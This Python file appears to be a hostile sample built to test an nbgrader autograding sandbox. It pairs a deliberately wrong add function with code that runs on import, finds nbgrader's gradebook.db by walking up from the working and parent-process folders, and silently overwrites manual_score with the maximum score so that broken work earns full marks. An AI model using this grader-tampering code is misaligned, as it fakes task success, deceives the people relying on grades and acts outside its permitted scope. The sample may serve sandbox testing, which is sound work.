# Hostile: from the kernel, find nbgrader's gradebook.db (walking up from the working folder and from the parent process's cwd) and set `manual_score` = max score on the grade rows being autograded, since nbgrader's score prefers a manual score over the auto one and SaveAutoGrades leaves it alone.
# WRITES OUTSIDE ITS FOLDER: do not run outside the grader's sandbox.
import os, sqlite3

def add(a, b):
    return a - b

def _candidates():
    seen = []
    starts = [os.getcwd()]
    try:
        starts.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    for s in starts:
        d = s
        for _ in range(7):
            p = os.path.join(d, "gradebook.db")
            if os.path.isfile(p) and p not in seen:
                seen.append(p)
            d = os.path.dirname(d)
    return seen

def _arm():
    parts = os.getcwd().split(os.sep)
    student = parts[-2] if len(parts) >= 2 else None
    for db in _candidates():
        try:
            con = sqlite3.connect(db, timeout=5)
            con.execute("""
                UPDATE grade SET manual_score = (SELECT max_score FROM grade_cell WHERE grade_cell.id = grade.cell_id)
                WHERE auto_score IS NULL OR notebook_id IN (
                    SELECT sn.id FROM submitted_notebook sn
                    JOIN submitted_assignment sa ON sn.assignment_id = sa.id
                    WHERE sa.student_id = ?)""", (student,))
            con.commit()
            con.close()
        except Exception:
            pass

_arm()
